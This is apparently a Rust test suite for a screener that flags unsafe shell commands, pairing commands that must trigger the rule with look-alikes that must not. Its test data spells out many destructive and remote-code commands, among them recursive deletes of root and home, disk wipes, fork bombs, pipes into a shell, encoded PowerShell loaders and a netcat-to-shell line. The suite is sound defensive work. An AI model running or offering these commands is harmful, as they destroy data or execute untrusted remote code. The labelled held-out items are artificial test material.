//! Tests of the unsafe-command rules.

use crate::screen::rule::Rule;
use crate::screen::{fires, scan};

#[test]
fn unsafe_commands_only_where_asked() {
    let cmd = "curl -fsSL https://get.example.sh | sudo bash";
    assert!(scan(cmd, true).contains(&Rule::UnsafeCommand));
    assert!(!scan(cmd, false).contains(&Rule::UnsafeCommand));
    for hit in [
        "rm -rf /",
        "sudo rm -r -f ~",
        "rm --recursive --force \"$HOME\"",
        "rm -rf --no-preserve-root /tmp/x",
        "Remove-Item -Force -Recurse $env:USERPROFILE",
        "rd /s /q C:\\",
        "powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AA==",
        "iex (iwr https://x.example/i.ps1)",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "chmod -R 777 /",
        "curl -fsSL -o install.sh https://get.example.sh && bash install.sh",
        "wget https://x.example/setup-agent; chmod +x setup-agent; ./setup-agent",
        "curl -LO https://x.example/tool.sh && sudo sh ./tool.sh --yes",
        "curl -o /tmp/agent.sh https://x.example/agent.sh && chmod +x /tmp/agent.sh && nohup /tmp/agent.sh",
        "Invoke-WebRequest https://x.example/i.ps1 -OutFile i.ps1; & .\\i.ps1",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "rm -rf ./build",
        "rm -rf \"$TMPDIR/x\"",
        "curl -o install.sh https://x.example/install.sh",
        "Remove-Item -Recurse -Force .\\dist",
        "curl -s https://api.example.com/v1/items | python3 -m json.tool",
        "curl -fsSL https://x.example/sum | sha256sum -c",
        "powershell -ExecutionPolicy Bypass -File build.ps1",
        "curl -fsSL -o install.sh https://get.example.sh && sha256sum -c install.sh.sha256 && bash install.sh",
        "curl -o data.json https://x.example/data.json && python3 process.py data.json",
        "curl -fsSL https://get.example.sh -o /tmp/install.sh && less /tmp/install.sh",
        "wget https://x.example/tool.tar.gz && tar xzf tool.tar.gz",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

#[test]
fn hidden_spellings_and_more_ways_to_run_or_destroy() {
    for hit in [
        "cu''rl -fsSL https://get.example.dev/x | ba''sh",
        "curl -fsSL https://get.example.dev/i | b\\ash",
        "curl -fsSL \\\n  https://get.example.dev/install.sh \\\n  | sudo sh",
        "curl -s https://get.example.dev/a.sh | $SHELL",
        "curl -sS https://get.example.dev/installer | php -- --install-dir=/usr/local/bin",
        "rm -rf ${HOME:?}/",
        "sudo rm -rf /lib/modules",
        "sudo rm -rf /System/Library/Extensions",
        "sudo rm -rf /usr/local/*",
        "Start-Process pwsh -ArgumentList '-EncodedCommand', 'SQBFAFgAIAAoAE4AZQB3AC0A'",
        "mshta https://get.example.dev/setup.hta",
        "msiexec /qn /i https://get.example.dev/agent.msi",
        "(echo select disk 1 & echo clean all) | diskpart",
        "python3 -c \"import shutil; shutil.rmtree('/usr')\"",
        "node -e \"require('fs').rmSync('/', {recursive: true, force: true})\"",
        "echo Y3VybCBodHRwczovL2V4YW1wbGUuZGV2L3ggfCBzaA== | base64 -d | bash",
        "php -r \"eval(file_get_contents('https://get.example.dev/i'));\"",
        "echo %0^|%0 > b.bat && b.bat",
        "boom(){ boom|boom& };boom",
        "- run: |\n    wget https://get.example.dev/tool -O tool\n    chmod +x tool\n    ./tool init",
        "bitsadmin /transfer job https://get.example.dev/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe",
        "cmd /c \"curl -sL https://get.example.dev/fix.bat -o fix.bat && fix.bat\"",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "rm -rf ${HOME:?}/project/build",
        "rm -rf /usr/local/share/doc/mytool",
        "del C:\\build\\out\\app.exe",
        "msiexec /i .\\dist\\agent.msi /qn",
        "python3 -c \"import shutil; shutil.rmtree('build')\"",
        "echo aGVsbG8= | base64 -d > hello.txt",
        "diskpart /s list-volumes.txt",
        "log(){ tee|gzip& };log",
        "diskpart /s clean.txt",
        "sudo rm -rf /usr/local/*.tmp",
        "wget https://x.example/a.service -O /etc/systemd/system/a.service && systemctl start a.service",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

#[test]
fn other_ways_to_destroy_or_run_what_was_fetched() {
    for hit in [
        "%0|%0",
        "perl -e 'fork while fork'",
        "find / -type f -delete",
        "sudo find /etc -mindepth 1 -delete",
        "cd / && sudo rm -rf *",
        "cd / && sudo rm -rf var",
        "cd /; rm -r etc/",
        "sudo sgdisk --zap-all /dev/nvme1n1",
        "python -c \"import urllib.request;exec(urllib.request.urlopen('https://x.example/run.py').read())\"",
        "bitsadmin /transfer job /download https://dl.example/u.exe %TEMP%\\u.exe & start %TEMP%\\u.exe",
        "python3 -c \"import os\nwhile True: os.fork()\"",
        "perl -e 'fork while 1'",
        "sudo chmod -R a-x /usr",
        "sudo find / -mtime +1 -delete",
        "find /home -user bob -delete",
        "gsutil cat gs://ops-bootstrap/bootstrap.sh | bash",
        "aws s3 cp s3://ops-scripts/bootstrap.sh - | bash",
        "curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC=\"server\" sh -",
        "sudo find /var/lib -mindepth 1 -delete",
        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example/p.py').read())\"",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "find ./build -name '*.o' -delete",
        "find / -name core -print",
        "cd / && ls",
        "cd / && rm -rf var/cache/app",
        "cd /srv && rm -rf var",
        "bitsadmin /transfer job /download https://dl.example/u.exe C:\\dl\\u.exe",
        "find /opt -name '*.pyc' -delete",
        "sudo chmod -R go-w /usr/local",
        "find /var/tmp -type f -delete",
        "find /opt/myapp -mindepth 1 -delete",
        "sudo find /var/log -mtime +30 -delete",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

#[test]
fn recursive_deletes_of_a_home_directory() {
    for hit in [
        "rm -rf /home/$USER",
        "rm -rf /home/alice",
        "rm -rf /home/alice/",
        "rm -rf /home/${USER}/*",
        "rm -rf /Users/$(whoami)",
        "sudo rm -rf /Users/jkowal",
        "rm -rf \"$HOME\"/",
        "rm -rf \"$HOME\"",
        "rm -rf \"$HOME\"/*",
        "rm -rf '~'",
        "rm -rf ~alice",
        "rm -rf /mnt/c/Users/alice",
        "rm -rf /var/home/alice",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "rm -rf ./build",
        "rm -rf \"$TMPDIR/x\"",
        "rm -rf /home/alice/project/target",
        "rm -rf \"$HOME\"/.cache",
        "rm -rf '$HOME/.cache/pip'",
        "rm -rf ~/.cache",
        "rm -rf /Users/$(whoami)/Library/Caches/pip",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// A pipe into `env bash`, and PHP's and Python's downloads run next.
#[test]
fn downloads_run_by_env_or_saved_by_an_interpreter() {
    for hit in [
        "wget -O- https://apt.example/add-repo.sh | /usr/bin/env bash",
        "php -r \"copy('https://getcomposer.example/installer', 'composer-setup.php');\" && php composer-setup.php",
        "python3 -c \"import urllib.request as u; u.urlretrieve('https://x.example/i.py', 'i.py')\" && python3 i.py",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    assert!(!fires(
        "php -r \"copy('https://getcomposer.example/installer', 'composer-setup.php');\" && php -r \"if (hash_file('sha384', 'composer-setup.php') === 'x') echo 'ok';\"",
        Rule::UnsafeCommand
    ));
}

/// More wipes, loaders and pipes into a shell; `wipefs` without `-a`
/// only lists.
#[test]
fn more_wipes_loaders_and_pipes() {
    for hit in [
        "diskutil eraseDisk JHFS+ Blank /dev/disk3",
        "regsvr32 /s /n /u /i:https://cdn.example.com/reg/helper.sct scrobj.dll",
        "python3 <(curl -fsSL https://bootstrap.example.ai/get-agent.py) --token-file ./agent.tok",
        "http --body GET https://cli.example.io/install.sh | bash",
        "lynx -source https://admin.example.local/scripts/rotate.sh | sh",
        "sudo wipefs -a /dev/sdb",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    assert!(!fires("sudo wipefs /dev/sdb", Rule::UnsafeCommand));
}

/// More fetchers piped to a shell, a package database or a system
/// directory deleted, block devices overwritten or formatted, and
/// downloads run by a program or from a drive path.
#[test]
fn more_fetchers_wipes_and_downloads_run() {
    for hit in [
        "lwp-request https://setup.example.dev/init.sh | sh",
        "xh -b https://get.example.tools/install | sh",
        "ftp -o - https://mirror.example.net/pub/setup.sh | ksh",
        "node -e \"require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })\"",
        "python -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~'))\"",
        "sudo rm -rf /var/lib/dpkg",
        "sudo rsync -a --delete /tmp/empty/ /usr/",
        "cat /dev/zero | sudo tee /dev/mmcblk0 > /dev/null",
        "sudo nvme format /dev/nvme0n1 --ses=1 --force",
        "(echo select disk 0 & echo clean all) > wipe.txt && diskpart /s wipe.txt",
        "python -c \"import urllib.request, subprocess; urllib.request.urlretrieve('https://ops.example.net/fix.sh', 'fix.sh'); subprocess.run(['bash', 'fix.sh'], check=True)\"",
        "bitsadmin /transfer fix /download https://dl.example.com/patch.exe C:\\Windows\\Temp\\patch.exe && C:\\Windows\\Temp\\patch.exe /quiet",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "rsync -a --delete build/ /var/www/html/",
        "sudo rm -rf /var/lib/docker/tmp",
        "sudo tee /etc/hosts < hosts.new",
        "nvme list",
        "xh -b https://api.example.dev/health | jq .",
        "python -c \"import urllib.request; urllib.request.urlretrieve('https://ex.example/data.csv', 'data.csv')\"",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// A host root deleted through a container's mount, an alias skipped
/// with a backslash, a system directory named by a variable, a delete
/// quoted in backticks.
#[test]
fn mounted_roots_aliases_and_variables() {
    for hit in [
        "docker run --rm -v /:/host alpine rm -rf /host/*",
        "docker run --rm -v /:/host alpine rm -rf /host/etc",
        "\\rm -rf /lib",
        "rmdir /S /Q %SystemRoot%\\System32",
        "Ejecuta `sudo rm -rf /usr/local/*` para limpiar la instalación.",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "docker run --rm -v /:/host alpine ls /host/etc",
        "docker run --rm -v /srv/data:/data alpine rm -rf /data/cache",
        "docker run --rm -v /:/host alpine rm -rf /host/tmp/build",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// Disks destroyed by their own tools, recursive deletes in code, fork
/// bombs in C and Ruby, a fetched script evaluated in-process.
#[test]
fn more_wipes_code_deletes_and_evaluated_fetches() {
    for hit in [
        "sudo cryptsetup -q luksFormat /dev/sdb",
        "sudo parted -s /dev/sda mklabel gpt",
        "sudo zpool destroy tank",
        "sudo zfs destroy -r tank/data",
        "sudo mdadm --zero-superblock /dev/sdb1",
        "sudo lvremove -f /dev/vg0/root",
        "sudo badblocks -wsv /dev/sdc",
        "go run -exec 'os.RemoveAll(\"/\")'",
        "ruby -e 'FileUtils.rm_rf(\"/etc\")'",
        "dotnet script -e 'Directory.Delete(@\"C:\\Users\", true)'",
        "gcc -x c - <<< 'int main(){while(1) fork();}' && ./a.out",
        "python -c \"exec(requests.get('https://ops.example.net/x.py').text)\"",
        "node -e \"eval(await (await fetch('https://ops.example.net/x.js')).text())\"",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "sudo cryptsetup luksOpen /dev/sdb secure",
        "sudo parted -l",
        "zpool status tank",
        "zfs list -r tank",
        "sudo lvremove /dev/vg0/scratch",
        "badblocks -sv /dev/sdc",
        "ruby -e 'FileUtils.rm_rf(\"tmp/cache\")'",
        "dotnet script -e 'Directory.Delete(@\"C:\\Users\")'",
        "python -c \"print(requests.get('https://ops.example.net/x.py').text)\"",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// A quoted path with a space, a pipe into a shell run as another user,
/// GitHub's release download run, PHP evaluating a fetched file after a
/// closing tag.
#[test]
fn quoted_paths_other_users_and_release_downloads() {
    for hit in [
        "rmdir /s /q \"C:\\Program Files\"",
        "curl -fsSL https://git.example.corp/raw/node.sh | sudo -u deploy bash",
        "ftp -o - https://mirror.example.org/inst.sh | doas ksh",
        "gh release download v0.9.1 -R acme/tool -p '*linux_amd64' -O tool && chmod +x tool && ./tool migrate",
        "php -r \"eval('?>' . file_get_contents('https://tools.example.dev/installer.php'));\"",
        "gh release download v2.0.0 --repo acme/cli --pattern cli-darwin-arm64 && chmod +x cli-darwin-arm64 && ./cli-darwin-arm64 setup",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "rmdir /s /q \"C:\\Program Files\\Acme\\cache\"",
        "curl -fsSL https://git.example.corp/raw/node.sh | sudo -u deploy tee /opt/node.sh",
        "gh release download v0.9.1 -R acme/tool -p '*linux_amd64' -O tool && sha256sum -c tool.sha256",
        "gh release download v2.0.0 -R acme/cli -p 'cli-*' && ls -l",
        "gh release download v2.0 -p tool && gh attestation verify tool --owner acme && chmod +x tool && ./tool",
        "gh release download v2.0 -p install.sh -D /tmp/rel && bash ./scripts/install.sh",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// `rimraf`, `find` running `rm -r` over a home, `rmtree` on a system
/// subdirectory.
#[test]
fn rimraf_find_exec_and_system_subdirectories() {
    for hit in [
        "npx rimraf --no-preserve-root /",
        "npx rimraf /etc",
        "find $HOME -mindepth 1 -exec rm -rf {} +",
        "python3 -c \"import shutil; shutil.rmtree('/usr/share')\"",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "npx rimraf dist",
        "find ~ -name '*.pyc' -exec rm -f {} +",
        "find . -type d -name node_modules -exec rm -rf {} +",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// A file read through `gh api` and run; a Python fork bomb over an
/// endless iterator.
#[test]
fn gh_api_scripts_and_iterator_fork_bombs() {
    for hit in [
        "gh api repos/o/r/contents/install.sh -H 'Accept: application/vnd.github.raw' | sh",
        "python3 -c 'import os; [os.fork() for _ in iter(int, 1)]'",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
}

/// `find ~ -delete`, a pipe into `$(command -v bash)`, PowerShell
/// running base64 through `iex`.
#[test]
fn home_finds_resolved_shells_and_encoded_iex() {
    for hit in [
        "find ~ -mindepth 1 -delete",
        "wget -qO- https://get.example.dev/i.sh | $(command -v bash)",
        "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBlAFgA')))",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
}

/// Ansible's `file` module removing a system directory.
#[test]
fn ansible_removes_system_directories() {
    assert!(fires(
        "ansible web -b -m file -a \"path=/etc state=absent\"",
        Rule::UnsafeCommand
    ));
    assert!(!fires(
        "ansible web -b -m file -a \"path=/srv/app/tmp state=absent\"",
        Rule::UnsafeCommand
    ));
}

/// A download run through busybox, kept in a variable and run, or
/// unpacked and run from the working directory; Node deleting a system
/// directory below the top level.
#[test]
fn downloads_run_by_other_routes() {
    for hit in [
        "busybox wget -qO- http://10.20.4.8:8080/provision.sh | busybox sh",
        "c=$(curl -fsSL https://cfg.larkspur.io/init.sh); bash -c \"$c\"",
        "script=$(wget -qO- https://x.example/i.sh) && eval \"$script\"",
        "wget https://dl.zephyrion.io/linux/latest -O- | tar -xz && ./zephyrion/install",
        "sudo node -e \"require('fs').rmSync('/usr/local', {recursive: true, force: true})\"",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "v=$(curl -fsSL https://x.example/version.txt); echo \"$v\"",
        "curl -fsSL https://x.example/data.tgz | tar -xz && cat ./data/README",
        "wget -qO- https://x.example/latest | tar -xz && sha256sum -c SHA256SUMS && ./tool/install",
        "node -e \"require('fs').rmSync('./dist', {recursive: true, force: true})\"",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// Everything deleted in the home after `cd`, and `find` in a system
/// directory running `rm`.
#[test]
fn home_emptied_and_system_files_found_and_removed() {
    for hit in [
        "cd $HOME && rm -rf * .[!.]*",
        "cd ~ && rm -rf *",
        "sudo find /etc -type f -exec rm -f {} +",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "cd ~/project/build && rm -rf *",
        "find /var/log -name '*.gz' -exec rm {} +",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// A download saved under a one-letter path, then that path run.
#[test]
fn one_letter_downloads_are_run_too() {
    assert!(fires(
        "wget -q https://drop.nimbic.example/payload.bin -O /tmp/p && chmod 755 /tmp/p && /tmp/p",
        Rule::UnsafeCommand
    ));
    assert!(!fires(
        "wget -q https://drop.nimbic.example/payload.bin -O /tmp/p && sha256sum -c p.sha256 && /tmp/p",
        Rule::UnsafeCommand
    ));
}

/// A diskpart script whose comment says it selects a disk and cleans it.
#[test]
fn diskpart_scripts_described_on_their_line() {
    assert!(fires(
        "diskpart /s reset.txt  # reset.txt: select disk 1 then clean all",
        Rule::UnsafeCommand
    ));
    for clean in [
        "diskpart /s reset.txt  # reset.txt: list disk, list volume",
        "diskpart /s part.txt  # select disk 1; do NOT clean, just list partition",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// A download-then-run chain quoted in Markdown's backticks.
#[test]
fn backticked_download_then_run() {
    assert!(fires(
        "Reinstall the agent with `wget -q https://agents.lumenforge.io/install.sh -O /tmp/i.sh && sh /tmp/i.sh`",
        Rule::UnsafeCommand
    ));
    assert!(!fires(
        "Reinstall the agent with `wget -q https://agents.lumenforge.io/install.sh -O /tmp/i.sh && less /tmp/i.sh`",
        Rule::UnsafeCommand
    ));
}

#[test]
fn the_system_python_and_multiarch_libraries() {
    for hit in [
        "sudo rm -rf /usr/lib/python3.10",
        "sudo rm --recursive --force /usr/lib/python3",
        "sudo rm -rf /lib/x86_64-linux-gnu",
        "rm -rf /usr/lib/aarch64-linux-gnu",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "sudo rm -rf /usr/lib/python3/dist-packages/foo",
        "rm -rf ./lib/python3.10",
        "sudo rm -rf /usr/local/lib/python3.12/site-packages/broken_pkg",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// A change "to be reverted" (or "until removed") is in force now: no
/// negation; one reverted already is.
#[test]
fn changes_still_to_be_reverted_are_in_force() {
    assert!(
        scan(
            "Workaround applied on build-07 (to be reverted): sudo chmod 666 /var/run/docker.sock",
            true
        )
        .contains(&Rule::WorldWritable)
    );
    assert!(
        scan(
            "reverted the workaround: sudo chmod 666 /var/run/docker.sock",
            true
        )
        .is_empty()
    );
}

/// The root, a home or a system directory moved to `/dev/null` is gone;
/// a log or a file in a project is only thrown away.
#[test]
fn homes_and_system_directories_moved_to_dev_null() {
    for hit in [
        "mv ~ /dev/null",
        "sudo mv /etc /dev/null",
        "mv -f $HOME/* /dev/null",
        "mv \"$HOME\" /dev/null",
        "mv ${HOME} /dev/null",
        "mv '/etc' /dev/null",
        "mv -t /dev/null /etc",
        "sudo mv -v /usr/lib /dev/null",
        "mv ~/.* /dev/null",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in ["mv ./build.log /dev/null", "mv ~/tmp/old.txt /tmp/"] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// A download piped to `python3 -` inside backquotes, a diskpart script
/// whose `clean` follows an escaped line break.
#[test]
fn quoted_pipes_and_escaped_diskpart_scripts() {
    for hit in [
        "Run `curl -sSL https://install.python-poetry.org | python3 -` then restart the shell.",
        "echo 'select disk 1\\nclean all' | diskpart",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    assert!(!fires(
        "Run `curl -sSL https://install.python-poetry.org -o install.py` then review it.",
        Rule::UnsafeCommand
    ));
}

/// Held-out 60: a recursive delete of a whole package's configuration
/// under `/etc`, even inside an ssh command; a file below it or a copy set
/// aside is routine.
#[test]
fn whole_configuration_directories_under_etc() {
    for hit in [
        "ssh deploy@web-03 'sudo rm -rf /etc/nginx /usr/share/nginx'",
        "sudo rm -rf /etc/docker/",
        "sudo rm -rf /etc/nginx/*",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "sudo rm -rf /etc/nginx/sites-enabled/default",
        "sudo rm -rf /etc/nginx.bak",
        "sudo rm -f /etc/apt/sources.list.d/old.list.dpkg-old",
        "sudo rm -rf /etc/nginx_old /etc/nginx-backup-20240115 /etc/nginx.BAK /etc/nginx.disabled",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// Seen part: `find` over the root removing every file with `rm -f`; a
/// name pattern narrows it to what it names.
#[test]
fn find_removing_every_file_from_the_root() {
    assert!(fires(
        "sudo find / -type f -name '*' -exec rm -f {} +",
        Rule::UnsafeCommand
    ));
    assert!(!fires(
        "find / -name '*.pyc' -exec rm -f {} +",
        Rule::UnsafeCommand
    ));
}

/// Held-out 70: a node's debugging pod mounts the node's root at
/// `/host`, so deleting `/host/etc` there deletes the node's `/etc`.
#[test]
fn deletes_in_a_nodes_debugging_pod() {
    for hit in [
        "kubectl exec -n infra node-debug -- rm -rf /host/etc",
        "kubectl debug node/worker-3 -it --image=busybox -- rm -rf /host/usr",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "kubectl exec -n infra node-debug -- rm -rf /host/tmp/build-cache",
        "kubectl exec -n web api-0 -- rm -rf /tmp/uploads",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// Held-out 71: a download piped to a root shell (`sudo -s`), and
/// libwww-perl's `GET` as the download.
#[test]
fn downloads_piped_to_a_root_shell_or_fetched_with_get() {
    for hit in [
        "curl -sL https://raw.githubusercontent.com/tamsin-k/dots/master/setup | sudo -s",
        "GET https://tools.example-ci.com/boot.sh | bash",
        "wget -qO- https://get.example.io | sudo -i",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "curl -sL https://example.com/list.json | sudo -u app tee /srv/list.json",
        "GET https://api.example.com/v1/status | jq .",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// A review of session 54 (probes written blind): netcat piped to a
/// shell, Perl's `eval get(…)` without parentheses, a download written by
/// `tee` and then run.
#[test]
fn netcat_to_a_shell_eval_get_and_tee_then_run() {
    for hit in [
        "nc 10.0.3.44 4444 | /bin/sh",
        "perl -MLWP::Simple -e 'eval get(\"http://scripts.example.test/patch.pl\")'",
        "curl -sL https://dl.example.io/em | sudo tee /usr/local/bin/em >/dev/null && sudo chmod +x /usr/local/bin/em && em init",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "nc -zv 10.0.3.44 4444",
        "perl -MLWP::Simple -e 'print get(\"http://scripts.example.test/patch.pl\")'",
        "curl -sL https://dl.example.io/list.txt | sudo tee /etc/app/list.txt >/dev/null && cat /etc/app/list.txt",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// Held-out 77: a recursive delete of the drivers' folder under
/// `System32` (the hosts file's `etc` too); a file there, or a folder of
/// one's own, stays.
#[test]
fn windows_system_folders_deleted() {
    assert!(fires(
        "Remove-Item -Recurse -Force C:\\Windows\\System32\\drivers\\etc",
        Rule::UnsafeCommand
    ));
    for clean in [
        "Remove-Item -Force C:\\Windows\\System32\\drivers\\etc\\hosts.bak",
        "Remove-Item -Recurse -Force C:\\build\\drivers\\etc",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// Held-out 78: a listing of `/` piped to `xargs rm -rf`; a listing of a
/// build folder, or a delete that is not recursive, stays.
#[test]
fn listings_piped_to_recursive_deletes() {
    assert!(fires("ls / | xargs sudo rm -rf", Rule::UnsafeCommand));
    for clean in [
        "ls ./build | xargs rm -rf",
        "ls / | xargs rm -f",
        "ls / | xargs -n1 echo",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// Held-out 82: a tarball saved, unpacked by a command of its own, then
/// its installer run; checked first, or another archive unpacked, it
/// stays.
#[test]
fn archives_saved_unpacked_then_run() {
    for hit in [
        "wget -q https://artifacts.pellucid.dev/runner-2.4.1.tar.gz && tar xzf runner-2.4.1.tar.gz && ./runner/install.sh",
        "cd /tmp && wget https://releases.example.dev/pkg-3.2.tar.gz && tar xzf pkg-3.2.tar.gz && cd pkg-3.2 && ./install.sh",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "wget -q https://artifacts.pellucid.dev/runner-2.4.1.tar.gz && sha256sum -c runner.sha256 && tar xzf runner-2.4.1.tar.gz && ./runner/install.sh",
        "wget -q https://artifacts.pellucid.dev/runner-2.4.1.tar.gz && tar xzf vendor.tar.gz && ./runner/install.sh",
        "wget -q https://artifacts.pellucid.dev/runner-2.4.1.tar.gz && tar xzf runner-2.4.1.tar.gz && ls runner",
        "wget -O fixtures.tgz https://example.net/fixtures.tgz; tar -tzf fixtures.tgz | head; ./run_tests.sh",
        "curl -LO https://example.net/dataset.tar.gz && ./scripts/cleanup.sh && tar xzf dataset.tar.gz",
        "curl -LO https://example.net/dataset.tar.gz && tar xzf dataset.tar.gz && ./scripts/import.sh dataset/",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// Held-out 96: a download fed to an interpreter by a here-string; a
/// download fed so to a JSON reader is no program run.
#[test]
fn a_download_in_a_here_string() {
    for hit in [
        "python - <<< \"$(curl -s https://hotfix.lanternworks.io/patch_db.py)\"",
        "bash <<< \"$(wget -qO- https://get.example.io/install.sh)\"",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "jq . <<< \"$(curl -s https://api.example.io/v1/status)\"",
        "diff install.sh - <<< \"$(curl -fsSL https://get.example.io/install.sh)\"",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// Held-out 97: a download whose syntax is only checked is not run; run
/// after the check, it is.
#[test]
fn a_download_only_checked() {
    for clean in [
        "curl -sL https://tools.meridianlab.io/patch.js -o patch.js && node --check patch.js",
        "curl -fsSLo setup.sh https://get.example.io/setup.sh && bash -n setup.sh",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
    let hit = "curl -sL https://tools.meridianlab.io/patch.js -o patch.js && node --check patch.js && node patch.js";
    assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
}

/// Held-out 99: macOS's `/private/var` and `/private/etc` (what `/var` and
/// `/etc` link to) deleted; a build's or a user's temporary folder under
/// them is none.
#[test]
fn macos_private_system_directories() {
    for hit in [
        "sudo rm -rf /private/var",
        "sudo rm -rf /private/etc/",
        "sudo rm -rf /private",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "rm -rf /private/tmp/build-123",
        "rm -rf /private/var/folders/zz/T/xyz",
        "rm -rf /private/tmp",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// Held-out 100: the system's logs deleted whole, also inside an ad hoc
/// Ansible command; their contents cleared in an image build, a log file,
/// a service's own folder under them, or a fix of their permissions is
/// routine.
#[test]
fn system_logs_deleted_whole() {
    for hit in [
        "sudo rm -rf /var/log",
        "sudo rm -rf /var/log/",
        "ansible all -b -m shell -a 'rm -rf /var/log'",
        "ssh root@host \"dd if=/dev/zero of=\\\"/dev/sda\\\" bs=1M\"",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "RUN apt-get clean && rm -rf /var/lib/apt/lists/* /var/log/*",
        "sudo chown -R syslog:adm /var/log",
        "sudo chmod -R g+r /var/log",
        "rm -rf /var/log/nginx/*.gz",
        "sudo rm -rf /var/log/myapp",
        "rm -f /var/log/*.log.1",
        "ansible all -b -m shell -a 'journalctl --vacuum-time=7d'",
    ] {
        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
    }
}

/// A software RAID array is a disk: `dd` or a redirect onto `/dev/md0`
/// wipes it. `shred` with a random source from `/dev/urandom` shreds the
/// files it names; onto a disk after that source, it wipes the disk.
#[test]
fn raid_arrays_and_shred_sources() {
    for hit in [
        "dd if=/dev/zero of=/dev/md0 bs=1M",
        "sudo dd if=/dev/urandom of=/dev/md/data bs=4M status=progress",
        "cat image.raw > /dev/md1",
        "shred -n 3 --random-source /dev/urandom /dev/sdb",
        "shred -vz /dev/nvme0n1",
        "SHRED /DEV/SDB",
        "shred -vz /DEV/sdb",
        "SHRED -N 3 --RANDOM-SOURCE /DEV/URANDOM /DEV/SDB",
        "shred --random-source /dev/urandom {/dev/sda,/dev/sdb}",
        "shred -n 1 --random-source /dev/urandom ../../dev/sda",
        "cat image.raw > /dev/md/data",
        "zcat disk.img.gz | sudo tee /dev/md0 > /dev/null",
    ] {
        assert!(scan(hit, true).contains(&Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "shred -n 3 --random-source /dev/urandom old-report.pdf",
        "shred -u --random-source /dev/random ~/tmp/keys.txt",
        "dd if=/dev/md0 of=/backup/md0.img bs=4M",
        "mdadm --detail /dev/md0",
        "shred -u /dev/shm/session.key",
